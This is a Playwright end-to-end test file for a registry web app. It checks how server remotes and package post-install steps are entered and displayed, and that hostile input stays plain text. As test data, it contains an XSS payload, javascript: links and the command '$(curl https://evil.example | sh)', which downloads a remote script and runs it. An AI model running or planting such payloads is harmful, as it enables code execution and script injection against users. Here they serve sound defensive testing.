/**
 * The registry draft's fields in Chromium, from the register form to the Configuration tab: a
 * remote whose URL begins with a variable (`{baseUrl}/mcp`) with a default, and a package's
 * post-install steps. The template is asked for, starting from the default, and never reaches a
 * client as literal text; the steps sit beside the configuration as text, each command in a block
 * to copy (never run), the documentation page the only link, and hostile text stays text.
 */
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { signInAs } from './auth'
import { axeViolations, newSession, setupBrowser } from './browser'
import { apiCall, apiJson } from './helpers'

setupBrowser()

const field = (page: Page, label: string) => page.getByLabel(label, { exact: true })
const RUN = `draft${Date.now().toString(36)}`

interface Detail {
  id: string
  packages: Array<Record<string, unknown>>
  remotes: Array<Record<string, unknown>>
}

describe('the registry draft fields', () => {
  it('are entered in the register form and shown on the Configuration tab: the URL variable asked for, the steps as text', async () => {
    const { page, context, problems } = await newSession()
    await signInAs(page, 'draft-fields-e2e')
    await page.goto('/servers/new')
    await field(page, 'Display name').fill(`Mind Map ${RUN}`)
    await field(page, 'Description').fill('Mind maps over MCP, self-hosted.')

    // A remote URL that begins with a variable is taken, and its variable gets a default.
    await field(page, 'Remote name').fill('http')
    await field(page, 'Remote URL').fill('{baseUrl}/mcp')
    await field(page, 'Default of {baseUrl} (optional)').fill('https://mcp.example.com')
    await page.getByRole('button', { name: 'Add Remote' }).click()
    const remotes = page.getByRole('list', { name: 'Remotes' })
    await remotes.getByText('{baseUrl}/mcp', { exact: true }).waitFor()
    await remotes.getByText('https://mcp.example.com', { exact: true }).waitFor()

    // A package, then its post-install steps: a step needs a description; documentation must be http(s).
    await field(page, 'Registry type').fill('npm')
    await field(page, 'Identifier').fill('@acme/mind-map')
    await field(page, 'Package version').fill('1.2.0')
    await page.getByRole('button', { name: 'Add Package' }).click()
    await page.getByText('Add a post-install step for @acme/mind-map').click()
    await field(page, 'Documentation URL (optional)').fill('javascript:alert(1)')
    await page.getByRole('button', { name: 'Add Step' }).click()
    await page.getByText('Step description is required').waitFor()
    await page.getByText('Documentation must be an http(s) URL').waitFor()
    await field(page, 'Step').fill('Register the web UI as a system service')
    await field(page, 'Command to show (optional, never run)').fill('mind-map service install --user')
    await field(page, 'Documentation URL (optional)').fill('https://example.com/mind-map/setup')
    await page.getByLabel('The server works without this step').check()
    await page.getByRole('button', { name: 'Add Step' }).click()
    await field(page, 'Step').fill('Remove me')
    await page.getByRole('button', { name: 'Add Step' }).click()
    const steps = page.getByRole('list', { name: 'Post-install steps of @acme/mind-map' }).getByRole('listitem')
    expect(await steps.count()).toBe(2)
    await page.getByRole('button', { name: 'Remove post-install step 2 of @acme/mind-map' }).click()
    expect(await steps.count()).toBe(1)
    expect(await axeViolations(page)).toEqual([])

    const created = page.waitForResponse((r) => r.url().endsWith('/api/servers') && r.request().method() === 'POST')
    await page.getByRole('button', { name: 'Register Server' }).click()
    const response = await created
    expect(response.status()).toBe(201)
    const { id } = (await response.json()) as Detail
    const detail = await apiJson<Detail>(`/api/servers/${id}`)
    expect(detail.remotes).toEqual([{ name: 'http', url: '{baseUrl}/mcp', variables: { baseUrl: { default: 'https://mcp.example.com' } } }])
    expect(detail.packages).toEqual([
      {
        registry_type: 'npm',
        identifier: '@acme/mind-map',
        version: '1.2.0',
        postInstallInstructions: [
          {
            description: 'Register the web UI as a system service',
            command: 'mind-map service install --user',
            documentation: 'https://example.com/mind-map/setup',
            optional: true,
          },
        ],
      },
    ])

    // The remote (a default makes it a hosted address) comes first: its variable is asked for.
    await page.goto(`/servers/${id}`)
    await page.getByRole('tab', { name: 'Configuration' }).click()
    const panel = page.getByRole('tabpanel')
    await panel.getByRole('heading', { name: 'Additional Metadata' }).waitFor()
    await panel.getByRole('radio', { name: /Remote server/ }).check()
    const fill = panel.getByRole('region', { name: 'What you must fill in' })
    const baseUrl = fill.getByRole('list', { name: 'Required values' }).getByRole('listitem').filter({ hasText: 'baseUrl' })
    await baseUrl.getByText('part of the address').waitFor()
    await baseUrl.getByText('https://mcp.example.com', { exact: true }).waitFor()
    const vscodeText = (await panel.getByRole('region', { name: 'VS Code', exact: true }).locator('pre code').first().textContent()) ?? ''
    const vscode = JSON.parse(vscodeText)
    expect(vscode.servers).toEqual({ [Object.keys(vscode.servers)[0]]: expect.objectContaining({ url: '${input:baseUrl}/mcp' }) })
    expect(await panel.locator('pre code').allTextContents()).not.toContainEqual(expect.stringContaining('{baseUrl}/mcp"'))
    // A remote has no post-install steps of its own.
    expect(await panel.getByRole('heading', { name: 'After installing' }).count()).toBe(0)

    // The package: its step beside the configuration, the command to copy, the page the only link.
    await panel.getByRole('radio', { name: /npm package/i }).check()
    await panel.getByRole('heading', { name: 'After installing' }).waitFor()
    const shown = panel.getByRole('list', { name: 'Post-install steps' }).getByRole('listitem')
    expect(await shown.count()).toBe(1)
    await shown.getByText('Register the web UI as a system service').waitFor()
    await shown.getByText('optional', { exact: true }).waitFor()
    await shown.getByRole('button', { name: 'Copy the command of step 1', exact: true }).click()
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('mind-map service install --user')
    const links = shown.getByRole('link')
    expect(await links.count()).toBe(1)
    expect(await links.first().getAttribute('href')).toBe('https://example.com/mind-map/setup')
    expect(await links.first().getAttribute('rel')).toBe('noopener noreferrer nofollow')
    // Never written into a client's configuration.
    for (const code of await panel.locator('pre code').allTextContents()) {
      if (code !== 'mind-map service install --user') expect(code).not.toContain('service install')
    }
    expect(await axeViolations(page)).toEqual([])
    expect(problems).toEqual([])
    await context.close()
  })

  it('shows hostile step text as text: no element, no script, no link but an http(s) page', async () => {
    const { page, context, problems } = await newSession()
    await signInAs(page, 'draft-fields-hostile')
    const hostile = '<img src=x onerror="window.__pwned=1"><a href="javascript:alert(1)">click</a>'
    const created = await apiCall<Detail>(page, 'POST', '/api/servers', {
      displayName: `Hostile Steps ${RUN}`,
      description: 'Steps that try to be HTML.',
      version: '1.0.0',
      packages: [
        {
          registry_type: 'npm',
          identifier: '@acme/hostile',
          version: '1.0.0',
          postInstallInstructions: [{ description: hostile, command: '$(curl https://evil.example | sh) </code><script>x()</script>' }],
        },
      ],
    })
    await page.goto(`/servers/${created.id}`)
    await page.getByRole('tab', { name: 'Configuration' }).click()
    const panel = page.getByRole('tabpanel')
    const step = panel.getByRole('list', { name: 'Post-install steps' }).getByRole('listitem')
    await step.getByText(hostile, { exact: true }).waitFor()
    await step.getByText('$(curl https://evil.example | sh) </code><script>x()</script>', { exact: true }).waitFor()
    expect(await step.locator('img, script, a').count()).toBe(0)
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined()
    expect(problems).toEqual([])
    await context.close()
  })
})
